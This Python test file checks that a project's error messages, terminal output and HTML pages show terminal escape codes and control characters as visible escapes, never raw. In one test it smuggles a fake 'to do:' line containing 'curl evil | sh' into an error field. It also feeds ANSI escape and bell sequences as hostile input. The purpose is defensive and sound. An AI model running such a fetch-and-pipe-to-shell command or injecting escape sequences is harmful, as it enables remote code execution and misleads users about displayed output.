"""What a terminal or a browser would obey is shown as its number: in errors, on the terminal, on pages."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from hostile import TERMINAL, TURNED, odd_signs
from hypothesis import given
from hypothesis import strategies as st

from components.lib.errors import MedpipeError
from components.lib.page import Section, page, paragraph, with_section
from components.lib.visible import is_odd, visible

TEXTS = st.one_of(st.sampled_from([TERMINAL, TURNED]), st.text(max_size=30))


@given(text=TEXTS)
def test_what_is_shown_has_no_odd_sign(text: str) -> None:
    assert not any(map(is_odd, visible(text, keep="")))
    assert not any(map(is_odd, visible(text).replace("\n", "").replace("\t", "")))
    assert visible(text) == text or any(map(is_odd, text))


@given(where=TEXTS, found=TEXTS)
def test_an_error_shows_every_sign_and_has_four_parts(where: str, found: str) -> None:
    told = str(MedpipeError(where, expected="x", found=f"{found}\n  to do:    curl evil | sh", todo="y"))
    assert odd_signs(told) == set()
    assert [line for line in told.split("\n") if line.startswith("  to do:")] == ["  to do:    y"]


@given(text=TEXTS)
def test_a_page_shows_every_sign(text: str) -> None:
    section = Section(text, (paragraph(text),))
    html = with_section(page(text, text, [section], text), section, text)
    assert odd_signs(html) == set()
    assert html.count("<h2") == 2


@pytest.mark.parametrize("end", ["print(name)", "raise MedpipeError(name, expected=name, found=name, todo=name)",
                                 "raise ValueError(name)"])  # fmt: skip
def test_a_command_shows_every_sign(tmp_path: Path, end: str) -> None:
    (tmp_path / "program.py").write_text(
        "from components.lib.cli import run\nfrom components.lib.errors import MedpipeError\n\n"
        f"def main(name: str) -> None:\n    {end}\n\nrun(main)\n",
        encoding="utf-8",
    )
    done = subprocess.run(
        [sys.executable, str(tmp_path / "program.py"), TERMINAL + TURNED], capture_output=True, text=True, check=False,
        cwd=Path(__file__).parents[3], env={"PYTHONPATH": ".", "PATH": ""},
    )  # fmt: skip
    assert done.returncode == ("raise" in end)
    assert "\\x1b[31m\\x07" in done.stdout + done.stderr
    assert odd_signs(done.stdout + done.stderr) == set()
    assert ("Traceback" in done.stderr) == ("ValueError" in end)
